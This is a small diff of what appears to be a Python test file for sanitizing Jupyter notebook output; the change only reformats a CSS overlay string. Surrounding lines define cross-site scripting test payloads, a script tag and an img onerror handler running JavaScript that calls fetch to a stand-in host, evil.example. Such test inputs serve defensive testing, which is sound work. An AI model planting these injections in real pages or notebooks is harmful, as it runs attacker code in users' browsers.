@@ -3,9 +3,7 @@
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
 
 RUN = "window.hacked = 1; document.title = 'hacked'; fetch('https://evil.example/x')"
-OVERLAY = (
-    "position: fixed; top: 0; left: 0; width: 100%; height: 9rem; z-index: 9"
-)
+OVERLAY = "position: fixed; top: 0; left: 0; width: 100%; height: 9rem; z-index: 9"
 HTML = [
     f"<script>{RUN}</script>",
     f'<img src="x" onerror="{RUN}">',
